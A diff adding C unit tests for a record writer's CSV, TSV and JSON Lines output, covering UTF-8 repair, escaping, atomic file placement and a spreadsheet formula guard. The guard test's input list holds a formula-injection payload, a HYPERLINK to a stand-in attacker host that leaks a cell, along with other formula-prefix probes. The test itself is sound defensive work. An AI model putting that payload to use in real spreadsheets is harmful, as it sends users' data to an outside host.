@@ -389,6 +389,247 @@ test_header_only_output (void)
   g_unlink (path);
 }
 
+/* Writes records of one context each through a writer of options into
+ * path, and returns the text written. */
+static char *
+write_contexts (const char *path, const DlOutputOptions *options,
+                const char *const *contexts, gsize n)
+{
+  g_autoptr (GError) error = NULL;
+  g_autoptr (DlWriter) writer = dl_writer_open (options, DL_FORMAT_MENTIONS,
+                                                &error);
+  char *text = NULL;
+
+  g_assert_no_error (error);
+  for (gsize i = 0; i < n; i++)
+    {
+      g_autoptr (DlRecord) record = dl_record_new ();
+
+      dl_record_set (record, DL_COL_DOC, "a.txt");
+      dl_record_set (record, DL_COL_FORM, "2020");
+      dl_record_set (record, DL_COL_CONTEXT, contexts[i]);
+      g_assert_true (dl_writer_write (writer, record, &error));
+    }
+  g_assert_true (dl_writer_finish (writer, &error));
+  g_assert_no_error (error);
+  g_file_get_contents (path, &text, NULL, &error);
+  g_assert_no_error (error);
+  return text;
+}
+
+/* The contexts read back from path, raw or not. */
+static GPtrArray *
+read_contexts (const char *path, gboolean raw)
+{
+  static const DlColumn required[] = { DL_COL_CONTEXT };
+  g_autoptr (GError) error = NULL;
+  g_autoptr (DlReader) reader = dl_reader_open (path, &error);
+  GPtrArray *contexts = g_ptr_array_new_with_free_func (g_free);
+  DlRecord *record;
+
+  dl_reader_set_raw (reader, raw);
+  g_assert_true (dl_reader_read_header (reader, DL_FORMAT_MENTIONS,
+                                        DL_FORMAT_MENTIONS, required, 1,
+                                        &error));
+  while ((record = dl_reader_next (reader, &error)) != NULL)
+    {
+      g_ptr_array_add (contexts,
+                       g_strdup (dl_record_get (record, DL_COL_CONTEXT)));
+      dl_record_free (record);
+    }
+  g_assert_no_error (error);
+  return contexts;
+}
+
+static const char *const risky[] = {
+  "=HYPERLINK(\"http://attacker.example/?leak=\"&E2,\"Report\") on May 5",
+  "+1 555", "-5 degrees", "@SUM(A1)", "\tcell", "\rcell", "'=already",
+  "''+twice", "-", "=", "'", "'-", "plain", "", "a=b", " =spaced",
+};
+
+/* The spreadsheet guard (issue 8 item 7): a cell a spreadsheet would take
+ * for a formula gets one quote, in CSV and in TSV; reading drops it again,
+ * so every cell comes back as it was; --raw writes and reads cells as they
+ * are. */
+static void
+test_guard (void)
+{
+  static const char *const formats[] = { "csv", "tsv" };
+
+  for (gsize f = 0; f < G_N_ELEMENTS (formats); f++)
+    for (int raw = 0; raw <= 1; raw++)
+      {
+        g_autofree char *path = write_temp ("");
+        DlOutputOptions options = { path, formats[f], raw };
+        g_autofree char *text = write_contexts (path, &options, risky,
+                                                G_N_ELEMENTS (risky));
+        g_autoptr (GPtrArray) back = read_contexts (path, raw);
+        gboolean tsv = f == 1;
+
+        g_assert_cmpuint (back->len, ==, G_N_ELEMENTS (risky));
+        for (gsize i = 0; i < G_N_ELEMENTS (risky); i++)
+          {
+            g_autofree char *want = g_strdup (risky[i]);
+
+            if (tsv)
+              g_strdelimit (want, "\t\r\n", ' ');
+            g_assert_cmpstr (back->pdata[i], ==, want);
+          }
+        g_assert_true ((strstr (text, "'=HYPERLINK(") != NULL) == !raw);
+        g_assert_true ((strstr (text, "'-5 degrees") != NULL) == !raw);
+        g_assert_true ((strstr (text, "''=already") != NULL) == !raw);
+        /* one character alone is no formula */
+        g_assert_true (strstr (text, ",-\n") || strstr (text, "\t-\n"));
+        g_unlink (path);
+      }
+}
+
+/* Every output is UTF-8: a byte that is not becomes U+FFFD (issue 8 item
+ * 6: a file name that is not UTF-8 was written as it was), in a short cell
+ * and in one too big for the row buffer. */
+static void
+test_write_invalid_utf8 (void)
+{
+  static const char *const formats[] = { "csv", "tsv", "jsonl" };
+  g_autoptr (GString) big = g_string_new ("big caf\xe9 ");
+
+  while (big->len < 100000)
+    g_string_append (big, "and so on, ");
+  for (gsize f = 0; f < G_N_ELEMENTS (formats); f++)
+    {
+      g_autofree char *path = write_temp ("");
+      DlOutputOptions options = { path, formats[f], FALSE };
+      const char *const contexts[] = { "caf\xe9 \xff\xfe ok", big->str };
+      g_autofree char *text = write_contexts (path, &options, contexts, 2);
+
+      g_assert_true (g_utf8_validate (text, -1, NULL));
+      g_assert_nonnull (strstr (text, "caf\xef\xbf\xbd \xef\xbf\xbd\xef\xbf\xbd ok"));
+      g_assert_nonnull (strstr (text, "big caf\xef\xbf\xbd and so on"));
+      g_unlink (path);
+    }
+}
+
+/* TSV: a tab, CR or LF in a cell is a space; read back as TSV. */
+static void
+test_tsv (void)
+{
+  g_autofree char *path = write_temp ("");
+  DlOutputOptions options = { path, "tsv", FALSE };
+  const char *const contexts[] = { "a\tb\nc\r\nd", "\"quoted\", and, commas" };
+  g_autofree char *text = write_contexts (path, &options, contexts, 2);
+  g_autoptr (GPtrArray) back = read_contexts (path, FALSE);
+
+  g_assert_true (g_str_has_prefix (text, "doc\tdct\tstart\tend\tline\t"));
+  g_assert_nonnull (strstr (text, "\ta b c  d\n"));
+  g_assert_cmpuint (back->len, ==, 2);
+  g_assert_cmpstr (back->pdata[0], ==, "a b c  d");
+  g_assert_cmpstr (back->pdata[1], ==, contexts[1]);
+  g_unlink (path);
+}
+
+/* JSON Lines: one object a line, keys in column order, counts and offsets
+ * numbers (null when empty, a string when they are no count), every
+ * control character escaped, no guard. */
+static void
+test_jsonl_write (void)
+{
+  g_autofree char *path = write_temp ("");
+  DlOutputOptions options = { path, "jsonl", FALSE };
+  g_autoptr (GError) error = NULL;
+  g_autoptr (DlWriter) writer = dl_writer_open (&options, DL_FORMAT_MENTIONS,
+                                                &error);
+  g_autoptr (DlRecord) record = dl_record_new ();
+  g_autoptr (GPtrArray) extra = g_ptr_array_new ();
+  g_autofree char *text = NULL;
+
+  g_ptr_array_add (extra, "topic\"1");
+  dl_writer_set_extra_names (writer, extra);
+  dl_record_set (record, DL_COL_DOC, "=1+2.txt");
+  dl_record_set (record, DL_COL_START, "7");
+  dl_record_set (record, DL_COL_END, "017");
+  dl_record_set (record, DL_COL_LINE, "0");
+  dl_record_set (record, DL_COL_CONTEXT,
+                 "\"q\" \\ \t\n\r\b\f\x01\x1f\x7f \xe2\x80\xa8 \xe2\x80\x94");
+  g_ptr_array_add (record->extra, g_strdup ("x"));
+  g_assert_true (dl_writer_write (writer, record, &error));
+  g_assert_true (dl_writer_finish (writer, &error));
+  g_file_get_contents (path, &text, NULL, &error);
+  g_assert_cmpstr (text, ==,
+                   "{\"doc\":\"=1+2.txt\",\"dct\":\"\",\"start\":7,"
+                   "\"end\":\"017\",\"line\":0,\"sentence\":null,"
+                   "\"mention\":\"\",\"form\":\"\",\"anchor\":\"\","
+                   "\"context\":\"\\\"q\\\" \\\\ \\t\\n\\r\\b\\f"
+                   "\\u0001\\u001f\\u007f \\u2028 \xe2\x80\x94\","
+                   "\"topic\\\"1\":\"x\"}\n");
+  g_unlink (path);
+}
+
+/* -o FILE: written beside FILE and put in place by dl_writer_finish; a
+ * writer freed unfinished leaves nothing; the format follows the
+ * extension unless given. */
+static void
+test_output_file (void)
+{
+  g_autoptr (GError) error = NULL;
+  g_autofree char *dir = g_dir_make_tmp ("dl-output-XXXXXX", &error);
+  g_autofree char *path = g_build_filename (dir, "out.jsonl", NULL);
+  DlOutputOptions options = { path, NULL, FALSE };
+  g_autoptr (DlRecord) record = dl_record_new ();
+  g_autofree char *text = NULL;
+  DlWriter *writer;
+  GDir *listing;
+
+  dl_record_set (record, DL_COL_DOC, "a.txt");
+  /* Freed before finishing: no file, no temporary file. */
+  writer = dl_writer_open (&options, DL_FORMAT_MENTIONS, &error);
+  g_assert_no_error (error);
+  g_assert_true (dl_writer_write (writer, record, &error));
+  dl_writer_free (writer);
+  listing = g_dir_open (dir, 0, NULL);
+  g_assert_null (g_dir_read_name (listing));
+  g_dir_close (listing);
+  /* Finished: FILE in place, as JSON Lines by its extension. */
+  writer = dl_writer_open (&options, DL_FORMAT_MENTIONS, &error);
+  g_assert_true (dl_writer_write (writer, record, &error));
+  g_assert_false (g_file_test (path, G_FILE_TEST_EXISTS));
+  g_assert_true (dl_writer_finish (writer, &error));
+  g_assert_no_error (error);
+  dl_writer_free (writer);
+  g_file_get_contents (path, &text, NULL, &error);
+  g_assert_true (g_str_has_prefix (text, "{\"doc\":\"a.txt\","));
+  /* --format wins over the extension. */
+  options.format = "csv";
+  g_clear_pointer (&text, g_free);
+  writer = dl_writer_open (&options, DL_FORMAT_MENTIONS, &error);
+  g_assert_true (dl_writer_finish (writer, &error));
+  dl_writer_free (writer);
+  g_file_get_contents (path, &text, NULL, &error);
+  g_assert_true (g_str_has_prefix (text, "doc,dct,"));
+  g_unlink (path);
+  listing = g_dir_open (dir, 0, NULL);
+  g_assert_null (g_dir_read_name (listing));
+  g_dir_close (listing);
+  g_rmdir (dir);
+}
+
+/* A format that does not exist, or a folder that does not. */
+static void
+test_output_errors (void)
+{
+  DlOutputOptions bad_format = { NULL, "xlsx-not-yet", FALSE };
+  DlOutputOptions bad_dir = { "/nonexistent/dir/out.csv", NULL, FALSE };
+  g_autoptr (GError) error = NULL;
+
+  g_assert_null (dl_writer_open (&bad_format, DL_FORMAT_RANGES, &error));
+  g_assert_error (error, DL_ERROR, DL_ERROR_USAGE);
+  g_assert_nonnull (strstr (error->message, "csv, tsv, jsonl"));
+  g_clear_error (&error);
+  g_assert_null (dl_writer_open (&bad_dir, DL_FORMAT_RANGES, &error));
+  g_assert_error (error, DL_ERROR, DL_ERROR_IO);
+  g_assert_true (g_str_has_prefix (error->message,
+                                   "/nonexistent/dir/out.csv: "));
+}
+
 /* Dates in the CSV columns: ISO 8601 days, nothing looser. */
 static void
 test_iso_dates (void)
@@ -533,6 +774,12 @@ main (int argc, char **argv)
   g_test_add_func ("/record/write-round-trip", test_write_round_trip);
   g_test_add_func ("/record/write-big-field", test_write_big_field);
   g_test_add_func ("/record/header-only-output", test_header_only_output);
+  g_test_add_func ("/record/guard", test_guard);
+  g_test_add_func ("/record/write-invalid-utf8", test_write_invalid_utf8);
+  g_test_add_func ("/record/tsv", test_tsv);
+  g_test_add_func ("/record/jsonl-write", test_jsonl_write);
+  g_test_add_func ("/record/output-file", test_output_file);
+  g_test_add_func ("/record/output-errors", test_output_errors);
   g_test_add_func ("/record/iso-dates", test_iso_dates);
   g_test_add_func ("/record/date-option", test_date_option);
   g_test_add_func ("/record/text-keys", test_text_keys);
